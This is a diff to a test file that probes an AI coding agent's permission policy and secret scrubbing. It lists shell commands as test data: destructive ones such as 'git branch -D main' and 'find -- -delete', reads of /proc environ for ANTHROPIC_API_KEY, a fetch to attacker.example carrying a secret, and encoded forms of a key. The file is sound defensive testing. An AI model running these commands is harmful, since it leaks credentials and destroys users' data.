@@ -11,6 +11,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { decide } from '../../src/core/permissions/policy.js';
 import { isReadOnlyCommand } from '../../src/core/permissions/shell-readonly.js';
 import type { PermissionMode, PermissionRequest } from '../../src/core/permissions/types.js';
+import { secretForms } from '../../src/core/secret-forms.js';
+import { scrubSecrets, sessionSecrets } from '../../src/core/session/secrets.js';
 import { withoutSecrets } from '../../src/core/tools/child-env.js';
 import type { ToolKind, Workspace } from '../../src/core/tools/define.js';
 import { makeWorkspace, resolveWorkspacePath } from '../../src/core/tools/paths.js';
@@ -69,6 +71,21 @@ const FOOLING = [
   'ls > pwned',
   'git branch -D main',
   'sed -i s/a/b/ a.txt',
+  // Round three: words after `--` are operands (with a repository link named -x, uniq wrote through it).
+  'uniq a.txt -- -x',
+  'uniq -- -x -y',
+  'uniq -- -- out',
+  'uniq a.txt -c',
+  'base64 -d in.b64 out',
+  'find -- -delete',
+  'git diff --output=x --',
+];
+
+/** Read-only as far as the parser goes, but they read a process's environment: asked, never run unasked. */
+const PROCESS_READS = [
+  'cat /proc/$PPID/environ',
+  "grep -c 'ANTHROPIC_API_KEY=sk-a' /proc/self/environ",
+  "grep -a -o 'ANTHROPIC_API_KEY=[^ ]*' /proc/*/environ",
 ];
 
 const PROBES: Probe[] = [
@@ -81,13 +98,22 @@ const PROBES: Probe[] = [
       held: () => verdict('plan', bash(command)) === 'deny',
     },
   ]),
-  ...['.git/config', '.git/hooks/pre-commit', '.outrider/settings.json', '.claude/settings.json', '.claude/agents/x.md'].map(
-    (file): Probe => ({
-      section: 'protected paths',
-      name: `accept-edits still asks to write ${file}`,
-      held: () => verdict('accept-edits', write(file)) === 'ask',
-    }),
-  ),
+  ...PROCESS_READS.flatMap((command) => [
+    { section: 'process files', name: `asked in default mode: ${command}`, held: () => stopped('default', bash(command)) },
+    { section: 'process files', name: `refused in plan mode: ${command}`, held: () => verdict('plan', bash(command)) === 'deny' },
+  ]),
+  ...[
+    '.git/config',
+    '.git/hooks/pre-commit',
+    '.outrider/settings.json',
+    '.claude/settings.json',
+    '.claude/agents/x.md',
+    '.mcp.json',
+  ].map((file): Probe => ({
+    section: 'protected paths',
+    name: `accept-edits still asks to write ${file}`,
+    held: () => verdict('accept-edits', write(file)) === 'ask',
+  })),
   ...(['dangling', 'chain', 'dir-link/new.txt'] as const).flatMap((file) =>
     (['accept-edits', 'yolo'] as const).map((mode): Probe => ({
       section: 'writes stay in the workspace',
@@ -99,6 +125,40 @@ const PROBES: Probe[] = [
     section: 'network',
     name: `${mode}: web_fetch asks before a request leaves the machine`,
     held: () => verdict(mode, request('web_fetch', 'network', { url: 'https://attacker.example/?q=secret' })) === 'ask',
+  })),
+  ...(['/proc/self/environ', `/proc/${process.ppid}/environ`, '/proc/self/mem', '/proc/1/cmdline', '/proc'] as const).flatMap(
+    (file) =>
+      (['read_file', 'grep'] as const).flatMap((tool) =>
+        (['default', 'yolo'] as const).map((mode): Probe => ({
+          section: 'process files',
+          name: `${mode}: ${tool} ${file} is refused`,
+          held: () => verdict(mode, request(tool, 'read-only', { path: file }, [file])) === 'deny',
+        })),
+      ),
+  ),
+  ...(
+    [
+      ['base64 -w0, key at offset 0', (k: string) => Buffer.from(`${k}\0`).toString('base64')],
+      ['base64 -w0, key at offset 1', (k: string) => Buffer.from(`A=${k}\0`).toString('base64')],
+      ['base64 -w0, key at offset 2', (k: string) => Buffer.from(`AB=${k}\0`).toString('base64')],
+      [
+        'base64 wrapped at 76 columns',
+        (k: string) => Buffer.from(`PATH=/usr/bin\0KEY=${k}`.repeat(3)).toString('base64').replace(/.{76}/g, '$&\n'),
+      ],
+      ['hex', (k: string) => Buffer.from(k).toString('hex')],
+      ['HEX', (k: string) => Buffer.from(k).toString('hex').toUpperCase()],
+      ['URL-encoded', (k: string) => encodeURIComponent(`${k}/+=`)],
+      ['every byte %-escaped', (k: string) => Buffer.from(k).toString('hex').replace(/../g, '%$&')],
+    ] as const
+  ).map(([encoding, encode]): Probe => ({
+    section: 'secrets',
+    name: `tool output is scrubbed of the key ${encoding}`,
+    held: () => {
+      const key = 'sk-ant-api03-probe+/key=0123456789';
+      const secrets = sessionSecrets({ ANTHROPIC_API_KEY: key }, key);
+      const scrubbed = scrubSecrets(encode(key), secrets).replace(/\n/g, '');
+      return scrubbed.includes('[redacted]') && !secretForms(key).some((form) => scrubbed.includes(form));
+    },
   })),
   {
     section: 'secrets',
